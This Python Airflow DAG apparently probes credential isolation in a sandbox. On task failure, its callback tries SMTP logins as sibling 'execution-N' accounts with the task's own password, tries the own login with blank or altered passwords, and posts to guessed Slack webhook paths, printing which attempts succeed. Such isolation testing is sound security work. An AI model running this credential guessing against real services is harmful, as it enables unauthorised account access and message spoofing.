"""Guesses what other children log in with: other numbers with its own password, its own name with other passwords."""

import contextlib
import smtplib
from datetime import timedelta
from email.message import EmailMessage

import requests
from airflow.sdk import DAG, BaseHook, task


def guess(context):
    mail, slack = BaseHook.get_connection("smtp_default"), BaseHook.get_connection("slack_webhook")
    names = [f"execution-{number}" for number in range(8) if f"execution-{number}" != mail.login]
    guesses = [(name, mail.password) for name in names]
    guesses += [(mail.login, "0" * 32), (mail.login, ""), ("", ""), (mail.login, mail.password[:-1] + "x")]
    for login, password in guesses:
        with smtplib.SMTP(mail.host, mail.port, timeout=2) as smtp:
            with contextlib.suppress(smtplib.SMTPException):
                smtp.login(login, password)
            message = EmailMessage()
            message["Subject"], message["From"], message["To"] = "failed", "a@example.com", "b@example.com"
            message.set_content(f"{context['ti'].task_id} failed")
            try:
                smtp.send_message(message)
                print("BROKEN: taken from", login == mail.login)
            except smtplib.SMTPException:
                print("TRIED: refused")
    own = (slack.password or "").rpartition("/")
    for path in ("0" * 32, "", own[2][:-1] + "x", "T000/B000/" + own[2]):
        answer = requests.post(f"{own[0]}/{path}", json={"text": "failed"}, timeout=2)
        print("TRIED:", answer.status_code)


with DAG("callback_exercise_dag", schedule=None, default_args={"retry_delay": timedelta(seconds=30)}):

    @task(on_failure_callback=guess)
    def email_notification(): ...

    @task(on_failure_callback=guess)
    def slack_notification(): ...

    email_notification()
    slack_notification()
